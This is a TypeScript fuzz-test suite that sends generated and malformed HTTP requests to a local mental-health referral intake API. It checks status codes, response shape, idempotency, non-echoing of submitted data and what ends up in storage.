/** one request exactly as written (fetch would normalize "/api/.." before sending it) */
const send = (
  agent: Agent,
  appUrl: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: Buffer,
): Promise<Answer> =>
  new Promise((resolve, reject) => {
    const url = new URL(appUrl);
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        method,
        path,
        agent,
        timeout: 20_000,
        headers: { ...headers, ...(body ? { 'content-length': String(body.length) } : {}) },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }));
        res.on('error', reject);
      },
    );
    req.on('timeout', () => req.destroy(new Error(`no answer within 20 s: ${method} ${path.slice(0, 80)}`)));
    req.on('error', reject);
    req.end(body);
  });

export class EdgeFuzzer {
  readonly outcomes: Outcome[] = [];
  /** keep-alive, as a browser would; closed by close() */
  private readonly agent = new Agent({ keepAlive: true, maxSockets: 4 });
  /** Idempotency-Key → the intake it created (as validated JSON): a reuse replays it, or is a 409 */
  private readonly keys = new Map<string, string>();
  readonly stats = new Map<string, { cases: number; statuses: Map<number, number> }>();
  /** fast-check's seed of the edge property (FUZZ_SEED replays it) */
  seed: number | undefined;

  constructor(private readonly rt: Runtime) {}

  /** sends one case; `nonce` reuses one (a replay must send the very same bytes) */
  async run(c: EdgeCase, nonce: string = newNonce()): Promise<Outcome> {
    const headers = Object.fromEntries(Object.entries(c.headers).map(([k, v]) => [k, v.replaceAll(PLACEHOLDER, nonce)]));
    const bytes = c.body ? encode(c.body, nonce) : undefined;
    const key = lower(headers)['idempotency-key'];

    // the contract, decided before the request is sent
    let expected: number[] = [];
    let accepted: Intake | undefined;
    if (c.kind === 'intake, other method') expected = [405];
    else if (c.path === '/api/referrals' && c.method === 'POST') {
      ({ expected, accepted } = oracle(bytes ?? Buffer.alloc(0), lower(headers)));
      const earlier = key === undefined ? undefined : this.keys.get(key);
      if (accepted && earlier !== undefined && earlier !== JSON.stringify(accepted)) expected = [409];
    } else if (c.kind === 'public GET') expected = [200, 400];
    else if (c.kind === 'staff route, forged token') expected = [401];
    else if (c.kind === 'sign-in') expected = [200, 400, 401, 413];
    else if (c.kind === 'unknown /api path') expected = ROUTE_HEADS.has(c.path.split(/[/?]/)[2] ?? '') ? [] : [404];
    else if (c.kind === 'static path') expected = [200, 302, 400, 404];

    const outcome: Outcome = { kind: c.kind, nonce, status: 0, expected, replayed: false, problems: [], ...(accepted ? { accepted } : {}) };
    this.outcomes.push(outcome); // first: a request that fails half-way is still accounted for in verifyStorage
    let res: Answer;
    try {
      res = await send(
        this.agent,
        this.rt.appUrl,
        c.method,
        c.path.replaceAll(PLACEHOLDER, nonce),
        headers,
        bytes && c.method !== 'GET' && c.method !== 'HEAD' ? bytes : undefined,
      );
    } catch (error) {
      outcome.problems.push(`no answer: ${(error as Error).message}`);
      return outcome;
    }
    outcome.status = res.status;
    const s = this.stats.get(c.kind) ?? { cases: 0, statuses: new Map() };
    s.cases++;
    s.statuses.set(res.status, (s.statuses.get(res.status) ?? 0) + 1);
    this.stats.set(c.kind, s);
    try {
      this.check(c, outcome, res, headers, bytes);
    } catch (error) {
      outcome.problems.push(`the check itself failed: ${(error as Error).message}`);
    }
    return outcome;
  }

  private check(c: EdgeCase, outcome: Outcome, res: Answer, headers: Record<string, string>, bytes: Buffer | undefined): void {
    const { text } = res;
    const { problems, expected, accepted, nonce } = outcome;
    const header = (name: string): string | undefined => {
      const v = res.headers[name];
      return Array.isArray(v) ? v.join(', ') : v;
    };
    const isApi = c.path.startsWith('/api') || c.path.startsWith('/local/auth');
    let json: any;
    try {
      json = text ? JSON.parse(text) : undefined;
    } catch {
      json = undefined;
    }
    outcome.replayed = header('idempotent-replayed') === 'true';
    if (res.status === 201) outcome.referralId = json?.referralId;
    const key = lower(headers)['idempotency-key'];
    if (res.status === 201 && accepted && key !== undefined && !this.keys.has(key)) this.keys.set(key, JSON.stringify(accepted));

    if (res.status >= 500) problems.push(`a ${res.status}`);
    if (expected.length && !expected.includes(res.status)) problems.push(`status ${res.status}, expected ${expected.join('/')}`);

    // the shape of API answers
    if (isApi && c.method !== 'HEAD') {
      const cacheable = c.kind === 'public GET' && res.status === 200 ? CACHEABLE.get(c.path.split('?')[0]!) : undefined;
      if (header('cache-control') !== (cacheable ?? 'no-store')) problems.push(`cache-control ${header('cache-control')}`);
      if (!header('content-type')?.startsWith('application/json')) problems.push(`content-type ${header('content-type')}`);
      if (res.status >= 400 && res.status !== 401) {
        if (typeof json?.error !== 'string' || typeof json?.message !== 'string') problems.push('error body without error/message');
        else if (STATUS_ERRORS[res.status] && c.path.startsWith('/api') && json.error !== STATUS_ERRORS[res.status])
          problems.push(`error ${json.error} on a ${res.status}`);
        if (
          json?.fields !== undefined &&
          (typeof json.fields !== 'object' ||
            !Object.values(json.fields).every((m) => Array.isArray(m) && m.every((x) => typeof x === 'string')))
        )
          problems.push('fields not { path: [text] }');
      }
      if (res.status === 401 && text !== '{"message":"Unauthorized"}' && c.path.startsWith('/api')) problems.push('401 body');
      // UTF-16 bytes, declared or not: 415 or a 400 that says what is wrong
      if (c.body?.encoding.startsWith('utf16') && res.status === 400 && json?.message !== 'The body is not valid JSON')
        problems.push('UTF-16 body: a 400 without a clear message');
      if (c.body?.encoding.startsWith('utf16') && ![400, 415].includes(res.status)) problems.push(`UTF-16 body: ${res.status}`);
    }
    if (res.status === 201) {
      if (typeof json?.referralId !== 'string' || !/^[0-9a-f-]{36}$/.test(json.referralId)) problems.push('201 without a referralId');
      if (accepted) {
        const urgent = accepted.screening.selfHarmThoughtsPastMonth || accepted.screening.suicideAttemptPastThreeMonths;
        if (json?.urgent !== urgent) problems.push(`urgent ${json?.urgent}, expected ${urgent}`);
        if (urgent && json?.crisisResources?.call !== '988') problems.push('urgent without 988');
      }
    }

    // nothing submitted comes back
    // the add-a-slash redirect of a static path names the path it was asked for: that is the URL, not data
    const ownUrl = c.kind === 'static path' && res.status === 302 && header('location') === `${c.path.replaceAll(PLACEHOLDER, nonce)}/`;
    const answerHeaders = Object.entries(res.headers)
      .filter(([k]) => !(ownUrl && k === 'location'))
      .map(([k, v]) => `${k}: ${Array.isArray(v) ? v.join(', ') : v}`)
      .join('\n');
    const answer = `${text}\n${answerHeaders}`;
    if (answer.includes(nonce) || answer.includes(nonce.toLowerCase())) problems.push('the nonce is echoed');
    if (c.path.startsWith('/api') && bytes && bytes.length < 100_000) {
      const echoed = submittedStrings(bytes.toString('utf8')).filter(
        (x) => text.includes(x) || text.includes(JSON.stringify(x).slice(1, -1)),
      );
      if (echoed.length) problems.push(`echoes ${echoed.length} submitted string(s)`);
    }
  }

  close(): void {
    this.agent.destroy();
  }

  /** one line per kind: cases and statuses */
  summary(): string {
    return [...this.stats.entries()]
      .sort((a, b) => b[1].cases - a[1].cases)
      .map(
        ([kind, s]) =>
          `${kind}: ${s.cases} (${[...s.statuses.entries()]
            .sort((a, b) => a[0] - b[0])
            .map(([st, n]) => `${st}×${n}`)
            .join(' ')})`,
      )
      .join('\n');
  }

  /**
   * The table and the executions against every outcome: a 201 stored its intake once (and the
   * referral, one execution), as the schema made it; nothing else holds a rejected case's nonce.
   */
  async verifyStorage(): Promise<{ problems: string[]; intakes: number; referrals: number; executions: number; items: number }> {
    const problems: string[] = [];
    const doc = DynamoDBDocumentClient.from(
      new DynamoDBClient({
        region: 'us-east-1',
        endpoint: this.rt.dynamoUrl,
        credentials: { accessKeyId: 'local', secretAccessKey: 'local' },
      }),
    );
    const items: Array<Record<string, any>> = [];
    try {
      let start: Record<string, any> | undefined;
      do {
        const page = await doc.send(new ScanCommand({ TableName: this.rt.tableName, ExclusiveStartKey: start }));
        items.push(...(page.Items ?? []));
        start = page.LastEvaluatedKey;
      } while (start);
    } finally {
      doc.destroy();
    }
    const intakes = new Map<string, Array<Record<string, any>>>();
    const referrals = new Map<string, Record<string, any>>();
    const noncesIn = new Map<string, Set<string>>();
    for (const item of items) {
      const id = String(item.pk).replace(/^REFERRAL#/, '');
      if (item.entity === 'intake') intakes.set(id, [...(intakes.get(id) ?? []), item]);
      if (item.entity === 'referral') referrals.set(id, item);
      // an idempotency record (its key holds the nonce) belongs to its referral
      const owner = item.entity === 'idempotency' ? `REFERRAL#${String(item.referralId)}` : String(item.pk);
      for (const n of JSON.stringify(item).match(NONCE_RE) ?? [])
        noncesIn.set(n.toLowerCase(), (noncesIn.get(n.toLowerCase()) ?? new Set()).add(owner));
    }
    const executions = new Map<string, number>();
    let nextToken: string | undefined;
    do {
      const page = await this.rt.sfn.listExecutions({
        stateMachineArn: this.rt.stateMachineArn,
        maxResults: 1000,
        ...(nextToken ? { nextToken } : {}),
      });
      for (const e of page.executions) executions.set(e.name!, (executions.get(e.name!) ?? 0) + 1);
      nextToken = page.nextToken;
    } while (nextToken);

    const created = new Map<string, Outcome>();
    for (const o of this.outcomes) {
      if (o.status === 201 && o.referralId && !o.replayed) {
        if (created.has(o.referralId)) problems.push(`${o.kind}: referral ${o.referralId} created twice`);
        created.set(o.referralId, o);
      }
    }
    for (const [id, o] of created) {
      const stored = intakes.get(id) ?? [];
      if (stored.length !== 1) problems.push(`${o.kind}: ${stored.length} INTAKE items for one 201`);
      else if (o.accepted && !isDeepStrictEqual(JSON.parse(JSON.stringify(stored[0]!.intake)), JSON.parse(JSON.stringify(o.accepted))))
        problems.push(`${o.kind}: the stored intake differs from the validated body (nonce ${o.nonce})`);
      const meta = referrals.get(id);
      if (!meta) problems.push(`${o.kind}: no referral item`);
      else {
        const at = Date.parse(String(meta.receivedAt));
        if (!(at >= PINNED_MS && at < PINNED_MS + 6 * 3600_000)) problems.push(`receivedAt ${meta.receivedAt} is not on the pinned clock`);
      }
      if (executions.get(id) !== 1) problems.push(`${o.kind}: ${executions.get(id) ?? 0} executions for one referral`);
      const where = noncesIn.get(o.nonce.toLowerCase());
      if (!where || [...where].some((pk) => pk !== `REFERRAL#${id}`))
        problems.push(`${o.kind}: its nonce is stored elsewhere than its referral`);
    }
    if (intakes.size !== created.size) problems.push(`${intakes.size} intakes stored for ${created.size} created`);
    if (executions.size !== created.size) problems.push(`${executions.size} executions for ${created.size} created`);
    for (const o of this.outcomes) {
      if (o.status !== 201 && noncesIn.has(o.nonce.toLowerCase()))
        problems.push(`${o.kind} answered ${o.status} but its nonce is stored (${[...noncesIn.get(o.nonce.toLowerCase())!].join(', ')})`);
    }
    return { problems, intakes: intakes.size, referrals: referrals.size, executions: executions.size, items: items.length };
  }
}

const lower = (h: Record<string, string>) => Object.fromEntries(Object.entries(h).map(([k, v]) => [k.toLowerCase(), v]));

// ---- the suite, shared by the fast run (npm test) and the soak (npm run test:soak) ----------------

export interface EdgeFuzzSuite {
  runtime(): Runtime;
  fuzzer(): EdgeFuzzer;
}

export interface SuiteOptions {
  /** generated edge cases */
  runs: number;
  /** idempotency property runs */
  idempotencyRuns: number;
  /** a case started past this fails the run (a bound, not a benchmark) */
  timeLimitMs: number;
  seed?: number;
  /** a line to stderr every so many cases (soak) */
  progressEvery?: number;
}

/** what went wrong, with the seed to replay it (FUZZ_SEED) and the shrunk case; '' when nothing did */
const failureOf = <T>(details: fc.RunDetails<T>): string =>
  details.failed
    ? `replay with FUZZ_SEED=${details.seed}\n${String((details.errorInstance as Error | undefined)?.message ?? details.errorInstance)}\n${fc.defaultReportMessage(details)}`
    : '';

/** reads FUZZ_RUNS / FUZZ_SEED; `fallback` when unset */
export const runsFromEnv = (fallback: number): number => {
  const raw = process.env.FUZZ_RUNS;
  if (raw === undefined || raw === '') return fallback;
  const n = Number(raw);
  if (!Number.isInteger(n) || n < 1) throw new Error(`FUZZ_RUNS must be a positive whole number, got ${raw}`);
  return n;
};
export const seedFromEnv = (): number | undefined => (process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined);

/**
 * Declares the fuzz tests (jest's describe/test/beforeAll/afterAll from the caller, so this module
 * stays free of jest globals): one runtime for the file, the clock pinned to PINNED_NOW.
 */
export const defineEdgeFuzzSuite = (
  jest: {
    beforeAll: typeof import('@jest/globals').beforeAll;
    afterAll: typeof import('@jest/globals').afterAll;
    test: typeof import('@jest/globals').test;
    expect: typeof import('@jest/globals').expect;
  },
  clock: { pinClock: (at: string) => void; resetClock: () => void },
  startRuntime: (o: { port: number; mailPort: number; quiet: boolean }) => Promise<Runtime>,
  options: SuiteOptions,
): EdgeFuzzSuite => {
  const { beforeAll, afterAll, test, expect } = jest;
  let rt: Runtime;
  let fuzzer: EdgeFuzzer;
  const started = Date.now();

  beforeAll(async () => {
    clock.pinClock(PINNED_NOW);
    rt = await startRuntime({ port: 0, mailPort: 0, quiet: true });
    fuzzer = new EdgeFuzzer(rt);
  });
  afterAll(async () => {
    fuzzer?.close();
    await rt?.stop();
    clock.resetClock();
  });

  test(
    `${options.runs} generated requests at the public edge: never a 5xx, the contract's status, no-store JSON, no echo`,
    async () => {
      // Act
      let done = 0;
      const deadline = Date.now() + options.timeLimitMs;
      const details = await fc.check(
        fc.asyncProperty(edgeCases, async (c) => {
          if (Date.now() > deadline) throw new Error(`time limit of ${options.timeLimitMs} ms passed after ${done} cases`);
          const o = await fuzzer.run(c);
          done++;
          if (options.progressEvery && done % options.progressEvery === 0)
            process.stderr.write(`edge fuzz: ${done} cases, ${Math.round((Date.now() - started) / 1000)} s\n`);
          if (o.problems.length) throw new Error(`${c.kind}: ${o.problems.join('; ')}`);
        }),
        { numRuns: options.runs, ...(options.seed !== undefined ? { seed: options.seed } : {}) },
      );

      // Assess
      fuzzer.seed = details.seed;
      expect(failureOf(details)).toBe('');
      expect(details.numRuns).toBe(options.runs);
      // the generators still make what the schema accepts (else "valid" would quietly mean nothing)
      const valid = fuzzer.outcomes.filter((o) => o.kind === 'valid');
      expect(valid.filter((o) => o.status === 201).length).toBeGreaterThan(valid.length * 0.6);
      for (const kind of ['mutated', 'garbage bytes', 'UTF-16 body', 'public GET', 'sign-in', 'staff route, forged token']) {
        if (options.runs >= 300) expect(fuzzer.stats.get(kind)?.cases ?? 0).toBeGreaterThan(0);
      }
    },
    options.timeLimitMs + 60_000,
  );

  test(
    `idempotency (${options.idempotencyRuns} bodies): one key and body ×3 → one referral; the key with another body → 409`,
    async () => {
      // Act
      const deadline = Date.now() + options.timeLimitMs;
      const details = await fc.check(
        fc.asyncProperty(validIntake, validIntake, async (body, other) => {
          if (Date.now() > deadline) throw new Error(`time limit of ${options.timeLimitMs} ms passed`);
          const key = `idem-${randomBytes(12).toString('hex')}`;
          const post = (b: Record<string, unknown>, nonce: string) =>
            fuzzer.run(
              {
                kind: 'idempotent replay',
                method: 'POST',
                path: '/api/referrals',
                headers: { 'content-type': 'application/json', 'idempotency-key': key },
                body: { text: JSON.stringify(b), encoding: 'utf8' },
              },
              nonce,
            );
          // the statuses are the oracle's (run() knows the key was used: 201 replay, or 409 for another intake)
          const nonce = newNonce();
          const first = await post(body, nonce);
          const again = [await post(body, nonce), await post(body, nonce)];
          const conflict = await post(other, newNonce());
          const problems = [first, ...again, conflict].flatMap((o) => o.problems);
          if (first.status === 201) {
            if (first.replayed) problems.push('the first answer says replayed');
            if (again.some((o) => o.referralId !== first.referralId || !o.replayed)) problems.push('a replay is not the same referral');
            if (conflict.accepted && conflict.status !== 409) problems.push(`same key, another intake: ${conflict.status}`);
          }
          if (problems.length) throw new Error(problems.join('; '));
        }),
        { numRuns: options.idempotencyRuns, ...(options.seed !== undefined ? { seed: options.seed } : {}) },
      );

      // Assess
      expect(failureOf(details)).toBe('');
    },
    options.timeLimitMs + 60_000,
  );

  test('storage: every 201 stored its intake once, as validated, with one execution; no rejected request left anything', async () => {
    // Act
    const result = await fuzzer.verifyStorage();

    // Assess
    expect(result.problems).toEqual([]);
    expect(result.intakes).toBe(fuzzer.outcomes.filter((o) => o.status === 201 && !o.replayed).length);
    expect(result.intakes).toBeGreaterThan(0);
    process.stderr.write(
      `edge fuzz (seed ${fuzzer.seed}): ${fuzzer.outcomes.length} requests in ${Math.round((Date.now() - started) / 1000)} s; ${result.intakes} intakes stored, ${result.executions} executions, ${result.items} items\n${fuzzer.summary()}\n`,
    );
  }, 120_000);

  return { runtime: () => rt, fuzzer: () => fuzzer };
};
